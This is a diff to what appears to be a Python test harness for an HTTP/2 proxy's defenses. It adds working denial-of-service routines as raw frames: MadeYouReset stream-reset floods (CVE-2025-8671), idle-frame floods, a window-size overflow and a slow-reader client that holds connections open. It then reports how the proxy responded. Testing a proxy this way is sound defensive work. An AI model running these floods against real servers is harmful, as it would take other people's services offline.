@@ -5,7 +5,15 @@ python3-h2 builds the frames; some are written byte by byte).
 
 ATTACK is one of rapid-reset, continuation-flood, ping-flood, settings-flood,
 big-headers, too-many-streams, table-size, silent (a client that never
-answers PINGs: prints how long until the proxy closed it). Prints one line:
+answers PINGs: prints how long until the proxy closed it), and the
+MadeYouReset variants (streams the proxy must reset itself, CVE-2025-8671):
+reset-window-overflow, reset-data-after-end, reset-malformed,
+reset-zero-window-update, reset-content-length; and floods of frames that
+do no work: idle-empty-data, idle-priority, idle-unknown, idle-ping-ack,
+idle-empty-headers, idle-mixed, idle-with-work (two idle frames per 1-byte
+DATA frame), plus settings-window-overflow (SETTINGS_INITIAL_WINDOW_SIZE
+2^31); slow-reader N SECONDS (N streams for 1 MiB each with an initial
+window of 0, never opened: prints "holding" and holds the connection). Prints one line:
   goaway <error code>     the proxy sent GOAWAY with that code
   reset <codes>           streams were reset (distinct codes, comma list)
   response <status>       a response arrived
@@ -40,9 +48,23 @@ def headers(stream_id, extra=()):
     return [(":method", "GET"), (":path", "/hello"), (":scheme", "http"), (":authority", "test")] + list(extra)
 
 
+def goaway_in(raw):
+    """The error code of the first GOAWAY among the whole frames of `raw`
+    (everything the proxy sent), or None."""
+    i = 0
+    while i + 9 <= len(raw):
+        length = struct.unpack(">I", b"\x00" + raw[i:i + 3])[0]
+        if raw[i + 3] == 0x7 and i + 9 + length <= len(raw):
+            return struct.unpack(">I", raw[i + 13:i + 17])[0]
+        i += 9 + length
+    return None
+
+
 def outcome(s, conn, wait=5.0):
     """Reads until GOAWAY, a response, or close; what the proxy did."""
     resets = set()
+    raw = b""
+    raw_mode = False
     deadline = time.time() + wait
     s.settimeout(0.5)
     while time.time() < deadline:
@@ -56,14 +78,18 @@ def outcome(s, conn, wait=5.0):
             break
         if not data:
             break
-        try:
-            events = conn.receive_data(data)
-        except Exception:
-            # Frames our h2 state machine did not expect after what we sent;
-            # scan raw for a GOAWAY instead.
-            i = data.find(bytes([0x07, 0x00, 0x00, 0x00, 0x00, 0x00]))
-            if i >= 3:
-                code = struct.unpack(">I", data[i + 10:i + 14])[0]
+        raw += data
+        if not raw_mode:
+            try:
+                events = conn.receive_data(data)
+            except Exception:
+                # Frames our h2 state machine did not expect after what we
+                # sent (resets of streams it never opened): from here on,
+                # scan the raw frames for a GOAWAY instead.
+                raw_mode = True
+        if raw_mode:
+            code = goaway_in(raw)
+            if code is not None:
                 return "goaway %d" % code
             continue
         for e in events:
@@ -79,13 +105,49 @@ def outcome(s, conn, wait=5.0):
             s.sendall(conn.data_to_send())
         except OSError:
             break
+    code = goaway_in(raw)
+    if code is not None:
+        return "goaway %d" % code
     if resets:
         return "reset " + ",".join(str(c) for c in sorted(resets))
+    sys.stderr.write("closed after %d bytes: %s\n" % (len(raw), summary(raw)))
     return "closed"
+
+
+def summary(raw):
+    kinds = {}
+    i = 0
+    while i + 9 <= len(raw):
+        length = struct.unpack(">I", b"\x00" + raw[i:i + 3])[0]
+        k = raw[i + 3] if raw[i + 3] != 3 else "rst%d" % struct.unpack(">I", raw[i + 9:i + 13])[0]
+        kinds[k] = kinds.get(k, 0) + 1
+        i += 9 + length
+    return "frame types %s, %d bytes left over" % (kinds, len(raw) - i)
+
+
+def slow_reader(addr, streams, seconds):
+    """A client that asks for large responses and never reads them: its
+    windows are 0 and never opened."""
+    host, port = addr.rsplit(":", 1)
+    s = socket.create_connection((host, int(port)), timeout=10)
+    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0x0, 0, struct.pack(">HI", 0x4, 0))
+    path = b"/bytes/1048576"
+    for i in range(streams):
+        block = b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x04test"
+        out += frame(0x1, 0x5, 2 * i + 1, block)
+    s.sendall(out)
+    print("holding", flush=True)
+    end = time.time() + seconds
+    while time.time() < end:
+        time.sleep(0.1)
+    s.close()
 
 
 def main():
     attack, addr = sys.argv[1], sys.argv[2]
+    if attack == "slow-reader":
+        slow_reader(addr, int(sys.argv[3]), float(sys.argv[4]))
+        return
     s, conn = connect(addr)
     if attack == "rapid-reset":
         # CVE-2023-44487: open a stream and reset it at once, thousands of times.
@@ -129,6 +191,56 @@ def main():
             sid = conn.get_next_available_stream_id()
             conn.send_headers(sid, [(":method", "GET"), (":path", "/hang"), (":scheme", "http"), (":authority", "test")], end_stream=True)
         s.sendall(conn.data_to_send())
+    elif attack.startswith("reset-"):
+        # MadeYouReset: each stream is made an error the proxy resets
+        # itself, thousands of times (the client never sends RST_STREAM).
+        # Raw frames: our own h2 state machine would refuse to send them.
+        get = b"\x82\x86\x84\x01\x04test"  # GET http://test/
+        try:
+            for i in range(5000):
+                sid = 2 * i + 1
+                block = get + (b"\x00\x0aconnection\x05close" if attack == "reset-malformed" else b"")
+                out = frame(0x1, 0x5, sid, block)  # END_STREAM | END_HEADERS
+                if attack == "reset-window-overflow":
+                    out += frame(0x8, 0x0, sid, struct.pack(">I", 0x7FFFFFFF))
+                elif attack == "reset-zero-window-update":
+                    out += frame(0x8, 0x0, sid, struct.pack(">I", 0))
+                elif attack == "reset-data-after-end":
+                    out += frame(0x0, 0x0, sid, b"x")
+                elif attack == "reset-content-length":
+                    # content-length: 2, then 1 byte and END_STREAM.
+                    out = frame(0x1, 0x4, sid, block + b"\x0f\x0d\x012") + frame(0x0, 0x1, sid, b"x")
+                s.sendall(out)
+        except OSError:
+            pass
+    elif attack.startswith("idle-"):
+        # POST /echo, body never ended; then frames that do no work.
+        post = b"\x83\x86\x04\x05/echo\x01\x04test"
+        s.sendall(frame(0x1, 0x4, 1, post))
+        kinds = {
+            "idle-empty-data": [frame(0x0, 0x0, 1, b"")],
+            "idle-priority": [frame(0x2, 0x0, 1, b"\x00\x00\x00\x00\x10")],
+            "idle-unknown": [frame(0xfa, 0x0, 0, b"")],
+            "idle-ping-ack": [frame(0x6, 0x1, 0, b"\x00" * 8)],
+            # An empty header block fragment on a new stream, ended at once
+            # by an empty CONTINUATION: one opens a stream, so both count.
+            "idle-empty-headers": None,
+            "idle-mixed": [frame(0x0, 0x0, 1, b""), frame(0x2, 0x0, 1, b"\x00\x00\x00\x00\x10"),
+                           frame(0xfa, 0x0, 0, b""), frame(0x6, 0x1, 0, b"\x00" * 8)],
+            "idle-with-work": [frame(0x0, 0x0, 1, b"x"), frame(0x0, 0x0, 1, b""), frame(0x2, 0x0, 1, b"\x00\x00\x00\x00\x10")],
+        }[attack]
+        try:
+            for i in range(20000):
+                if kinds is None:
+                    sid = 2 * i + 3
+                    batch = [frame(0x1, 0x0, sid, b""), frame(0x9, 0x0, sid, b""), frame(0x9, 0x4, sid, b"")]
+                else:
+                    batch = kinds * 10
+                s.sendall(b"".join(batch))
+        except OSError:
+            pass
+    elif attack == "settings-window-overflow":
+        s.sendall(frame(0x4, 0x0, 0, struct.pack(">HI", 0x4, 2**31)))
     elif attack == "silent":
         # Never answers anything (PINGs included): reads until the proxy
         # closes the connection.
